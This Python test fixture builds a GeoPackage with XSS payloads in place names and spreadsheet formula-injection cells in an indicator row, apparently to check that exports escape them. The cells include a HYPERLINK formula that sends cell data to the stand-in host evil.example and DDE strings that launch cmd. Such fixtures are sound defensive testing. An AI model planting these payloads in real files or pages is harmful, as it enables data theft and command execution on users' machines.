"""A GeoPackage whose text fields carry a script payload, for escaping tests of exports."""

from __future__ import annotations

from pathlib import Path

from geodata import schema
from geodata.build import write_gpkg
from geodata.load import Atlas

PAYLOAD = '<img src=x onerror="window.__xss=(window.__xss||0)+1">'
SCRIPT = "<script>window.__xss=(window.__xss||0)+1</script>"


def _poison(frame, id_field: str, row_id: str, field: str, payload: str) -> None:
    index = frame.index[frame[id_field] == row_id][0]
    frame.at[index, field] = payload + str(frame.at[index, field])


def write_hostile(atlas: Atlas, path: Path) -> Path:
    """The committed atlas with payloads in names shown by the relocation theme in 2021."""
    frames = {name: atlas.table(name) for name in schema.LAYERS}
    for field in ("name_zh", "name_en"):
        _poison(frames["places"], "id", "yunshang_town", field, PAYLOAD)
        _poison(frames["places"], "id", "xiqing", field, SCRIPT)
        _poison(frames["boundaries"], "id", "110106", field, PAYLOAD)
    _poison(frames["places"], "id", "yunshang_town", "source", SCRIPT)
    _poison(
        frames["indicators"],
        "series",
        "dahongmen_final_garment_markets_closed",
        "label_zh",
        PAYLOAD,
    )
    write_gpkg(frames, path)
    return path


# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), in the indicator row the
# relocation theme's first card shows in 2021, and one plain negative number that must stay one.
FORMULA_ROW = "dahongmen_markets_closed_2018_11"
FORMULAS = {
    "label_zh": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "label_en": "+cmd|' /C calc'!A0",
    "unit_en": "-2+3+cmd|' /C calc'!A0",
    "note_zh": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note_en": "\t=1+1",
    "unit_zh": "\r=1+1",
}
PLAIN_NUMBER = ("quoted_figure", "-12.5")


def write_formula_hostile(atlas: Atlas, path: Path) -> Path:
    """The committed atlas with :data:`FORMULAS` (and :data:`PLAIN_NUMBER`) in one shown row."""
    frames = {name: atlas.table(name) for name in schema.LAYERS}
    indicators = frames["indicators"]
    index = indicators.index[indicators["id"] == FORMULA_ROW][0]
    for field, payload in {**FORMULAS, PLAIN_NUMBER[0]: PLAIN_NUMBER[1]}.items():
        indicators.at[index, field] = payload
    write_gpkg(frames, path)
    return path
